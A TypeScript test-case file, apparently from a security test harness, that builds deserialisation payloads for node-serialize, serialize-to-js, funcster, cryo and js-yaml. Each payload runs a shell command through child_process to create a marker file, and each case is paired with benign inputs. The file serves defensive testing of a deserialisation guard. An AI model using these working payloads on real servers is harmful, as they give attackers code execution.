import { postText, type KnownCase, type KnownPlaces } from '../case.ts';

interface Reader {
  readonly package: string;
  readonly id: string;
  readonly title: string;
  readonly exploit: (code: string, places: KnownPlaces) => string;
  readonly ordinary: readonly string[];
}

const reader = ({ package: name, id, title, exploit, ordinary }: Reader): KnownCase => ({
  app: 'deserialisers',
  package: name,
  id,
  guard: 'deserialization',
  title,
  attack(places) {
    const file = places.made();
    const code = `process.mainModule.require('child_process').execSync('touch ${file}')`;
    return {
      requests: [postText(`/deserialisers/${name}`, exploit(code, places))],
      effect: { kind: 'file', path: file },
    };
  },
  benign: () => ordinary.map((text) => postText(`/deserialisers/${name}`, text)),
});

const JSONS = [
  '{"name":"Ann","list":[1,2]}',
  '{"note":"function (x) is => a word"}',
  '{"constructor":"steel","path":"a.b"}',
];

export default [
  reader({
    package: 'node-serialize',
    id: 'CVE-2017-5941',
    title: 'a function in the text is called at once',
    exploit: (code) => JSON.stringify({ x: `_$$ND_FUNC$$_function () { ${code} }()` }),
    ordinary: JSONS,
  }),
  reader({
    package: 'serialize-to-js',
    id: 'CVE-2017-5954',
    title: 'the text is evaluated',
    exploit: (code) => `{x: (function () { ${code} })()}`,
    ordinary: [
      '{name: "Ann", list: [1, 2]}',
      '{when: new Date("2020-01-01T00:00:00.000Z")}',
      '{pattern: /a.b/g, note: "x"}',
    ],
  }),
  reader({
    package: 'funcster',
    id: '–',
    title: 'a function in the text is called at once',
    exploit: (code) =>
      JSON.stringify({ x: { __js_function: `function () { this.constructor.constructor("${code}")() }()` } }),
    ordinary: JSONS,
  }),
  reader({
    package: 'cryo',
    id: 'CVE-2018-3784',
    title: 'a prototype in the text brings a toString of its own',
    exploit: (code) =>
      JSON.stringify({
        root: '_CRYO_REF_1',
        references: [
          { contents: {}, value: `_CRYO_FUNCTION_function () { ${code}; return 'x'; }` },
          { contents: { __proto__: undefined, name: 'x', toString: '_CRYO_REF_0' }, value: '_CRYO_OBJECT_' },
        ],
      }),
    ordinary: [
      '{"root":"_CRYO_REF_0","references":[{"contents":{"name":"Ann"},"value":"_CRYO_OBJECT_"}]}',
      '{"root":"_CRYO_REF_0","references":[{"contents":{"note":"function (x)"},"value":"_CRYO_OBJECT_"}]}',
      '{"root":5,"references":[]}',
    ],
  }),
  reader({
    package: 'js-yaml',
    id: 'GHSA-8j8c-7jfh-h6hx',
    title: 'a key is a function, called when it is made into text',
    exploit: (code) => `{ toString: !!js/function 'function () { ${code.replaceAll("'", "''")}; return "x"; }' } : 1`,
    ordinary: [
      'name: Ann\nlist: [1, 2]',
      'note: "!!js without function"\nb: 1',
      'when: 2020-01-01\nwhat: function (x) { y }',
    ],
  }),
] satisfies KnownCase[];
